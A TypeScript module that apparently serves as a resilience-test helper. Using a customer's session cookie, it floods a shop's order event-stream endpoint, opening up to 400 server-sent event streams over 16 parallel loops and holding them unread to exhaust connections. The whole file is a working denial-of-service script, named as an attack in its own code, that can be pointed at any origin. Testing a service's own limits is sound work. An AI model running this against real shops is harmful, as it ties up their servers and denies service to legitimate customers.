/** A signed-in customer opens event streams as fast as possible and reads none of them. */
import { Agent, type ClientRequest, request } from 'node:http'

const EVENTS_PATH = '/api/orders/events'
/** Connections that request one stream after the other. */
const ASKING = 16
/** Streams held open at the same time. Beyond it, the oldest is closed for a new one. */
const MAX_HELD = 400

export interface StreamTarget {
  /** The URL of the shop, without a trailing slash. */
  origin: string
  /** The session of a signed-in customer. */
  cookie: string
}

interface Attack {
  /** The status of the response; 0 if there was none. */
  ask(method: 'GET' | 'HEAD'): Promise<number>
  end(): void
}

function beginAttack({ origin, cookie }: StreamTarget): Attack {
  const agent = new Agent({ keepAlive: true, maxSockets: ASKING })
  const open = new Set<ClientRequest>()
  const held: ClientRequest[] = []
  const url = `${origin}${EVENTS_PATH}`
  const headers = { accept: 'text/event-stream', cookie }

  /** Keeps a stream open without reading from it. */
  function hold(stream: ClientRequest) {
    held.push(stream)
    if (held.length > MAX_HELD) held.shift()?.destroy()
  }

  return {
    ask: (method) =>
      new Promise((settle) => {
        // A stream occupies its connection, so each has its own.
        const asked = request(url, { method, headers, agent: method === 'HEAD' ? agent : false })
        open.add(asked)
        asked.on('error', () => settle(0))
        asked.on('close', () => open.delete(asked))
        asked.on('response', (answer) => {
          const status = answer.statusCode ?? 0
          answer.on('error', () => undefined)
          if (method === 'GET' && status === 200) hold(asked)
          else answer.resume()
          settle(status)
        })
        asked.end()
      }),
    end() {
      for (const asked of open) asked.destroy()
      agent.destroy()
    },
  }
}

/**
 * Sends HEAD and GET requests in turn and holds every opened stream, for some milliseconds or until `signal`.
 * @returns the number of requests, and of those without a successful response
 */
export async function holdEventStreams(
  target: StreamTarget,
  milliseconds: number,
  signal: AbortSignal,
): Promise<{ requests: number; refused: number }> {
  const attack = beginAttack(target)
  const until = performance.now() + milliseconds
  const isOver = () => signal.aborted || performance.now() >= until
  let requests = 0
  let refused = 0

  async function keepAsking() {
    while (!isOver()) {
      const status = await attack.ask(requests % 2 === 0 ? 'HEAD' : 'GET')
      requests += 1
      if (status < 200 || status >= 300) refused += 1
    }
  }

  const end = () => attack.end()
  // The attack ends in time even if it is aborted or the shop does not answer.
  const limit = setTimeout(end, milliseconds + 1_000)
  signal.addEventListener('abort', end, { once: true })
  await Promise.all(Array.from({ length: ASKING }, keepAsking))
  clearTimeout(limit)
  signal.removeEventListener('abort', end)
  attack.end()
  return { requests, refused }
}
